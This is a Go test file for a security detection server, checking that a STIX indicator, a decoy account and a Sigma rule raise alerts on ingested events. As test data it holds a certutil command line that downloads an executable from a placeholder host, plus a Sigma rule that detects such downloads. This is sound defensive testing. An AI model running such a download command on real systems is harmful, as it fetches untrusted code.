package app

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// TestStreamDetection runs the stream detectors in the real server: an indicator imported as
// STIX and a decoy registered through the API, then events that touch each. Both raise alerts
// as the events arrive (no rule schedule), which reach the alert tables and an incident; an
// unrelated event raises nothing.
func TestStreamDetection(t *testing.T) {
	s := startTest(t, nil)
	bundle := `{"type":"bundle","id":"bundle--0b0c1e7e-0000-4000-8000-00000000b001","objects":[{"type":"indicator","spec_version":"2.1",
	  "id":"indicator--0b0c1e7e-0000-4000-8000-00000000a001","created":"2026-11-01T00:00:00Z","modified":"2026-11-01T00:00:00Z",
	  "name":"Exfil server","pattern":"[ipv4-addr:value = '203.0.113.66']","pattern_type":"stix","valid_from":"2026-11-01T00:00:00Z","confidence":90}]}`
	if r := s.do(t, "POST", "/api/v1/threatIntelligence/indicators:import", []byte(bundle), nil); r.status != 200 || !strings.Contains(r.body, `"accepted":1`) {
		t.Fatalf("import indicators: %d %s", r.status, r.body)
	}
	if r := s.do(t, "POST", "/api/v1/deception/decoys", []byte(`{"kind":"account","value":"svc-backup-adm","description":"decoy service account"}`), nil); r.status != 201 {
		t.Fatalf("add decoy: %d %s", r.status, r.body)
	}
	s.settle(t)
	// The decoy detector picks up new decoys on its poll; take the registered one now.
	if _, err := s.a.decoys.Reload(t.Context()); err != nil {
		t.Fatalf("reload decoys: %v", err)
	}
	now := time.Now().UTC().Format(time.RFC3339)
	net := fmt.Sprintf(`{"Timestamp":%q,"DeviceName":"fs01","RemoteIP":"203.0.113.66","RemotePort":443,"ActionType":"ConnectionSuccess"}
{"Timestamp":%q,"DeviceName":"fs01","RemoteIP":"198.51.100.7","RemotePort":443,"ActionType":"ConnectionSuccess"}`, now, now)
	if r := s.do(t, "POST", "/api/v1/ingest/DeviceNetworkEvents", []byte(net), nil); r.status != 200 {
		t.Fatalf("ingest: %d %s", r.status, r.body)
	}
	logon := fmt.Sprintf(`{"Timestamp":%q,"DeviceName":"dc01","AccountName":"svc-backup-adm","AccountDomain":"CORP","ActionType":"LogonFailed","RemoteIP":"10.20.1.7"}`, now)
	if r := s.do(t, "POST", "/api/v1/ingest/DeviceLogonEvents", []byte(logon), nil); r.status != 200 {
		t.Fatalf("ingest: %d %s", r.status, r.body)
	}
	waitUntil(t, "two stream alerts", func() bool {
		return fmt.Sprint(s.kql(t, `SecurityAlert | count`)) == "[[2]]"
	})
	got := s.kql(t, `SecurityAlert | project AlertName, AlertSeverity, ProductComponentName = tostring(parse_json(ExtendedProperties).Detector) | order by AlertName asc`)
	text := fmt.Sprint(got)
	if !strings.Contains(text, "203.0.113.66") || !strings.Contains(text, "svc-backup-adm") || !strings.Contains(text, "High") {
		t.Errorf("stream alerts = %v", got)
	}
	// The alerts are stored and correlated side by side: the incident may come a moment later.
	waitUntil(t, "an incident of the stream alerts", func() bool {
		r := s.do(t, "GET", "/api/v1/security/incidents", nil, nil)
		return r.status == 200 && strings.Contains(r.body, `"alertCount"`)
	})
}

func waitUntil(t *testing.T, what string, cond func() bool) {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); time.Now().Before(deadline); time.Sleep(25 * time.Millisecond) {
		if cond() {
			return
		}
	}
	t.Fatalf("timed out waiting for %s", what)
}

// TestSigmaStream runs a Sigma rule on the stream of the real server: a process creation
// that matches raises its alert as it arrives, with the rule's title and level.
func TestSigmaStream(t *testing.T) {
	rule := filepath.Join(t.TempDir(), "certutil.yml")
	if err := os.WriteFile(rule, []byte(`title: Certutil downloads a file
id: 3f9c2b1e-7a1d-4c5e-9b8a-1d2e3f4a5b6c
status: experimental
level: high
tags: [attack.command_and_control, attack.t1105]
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains|all: ['-urlcache', 'http']
  condition: selection
`), 0o600); err != nil {
		t.Fatal(err)
	}
	s := startTest(t, func(c *Config) { c.Detection.Sigma = []string{rule} })
	now := time.Now().UTC().Format(time.RFC3339)
	evs := fmt.Sprintf(`{"Timestamp":%q,"DeviceName":"ws1","FolderPath":"C:\\Windows\\System32\\certutil.exe","FileName":"certutil.exe","ProcessCommandLine":"certutil -urlcache -f http://203.0.113.5/a.exe a.exe"}
{"Timestamp":%q,"DeviceName":"ws2","FolderPath":"C:\\Windows\\System32\\certutil.exe","FileName":"certutil.exe","ProcessCommandLine":"certutil -verify cert.cer"}`, now, now)
	if r := s.do(t, "POST", "/api/v1/ingest/DeviceProcessEvents", []byte(evs), nil); r.status != 200 {
		t.Fatalf("ingest: %d %s", r.status, r.body)
	}
	waitUntil(t, "the sigma alert", func() bool { return fmt.Sprint(s.kql(t, `SecurityAlert | count`)) == "[[1]]" })
	got := s.kql(t, `SecurityAlert | project AlertName, AlertSeverity, Techniques`)
	if fmt.Sprint(got) != `[[Certutil downloads a file High ["T1105"]]]` {
		t.Errorf("SecurityAlert = %v", got)
	}
}
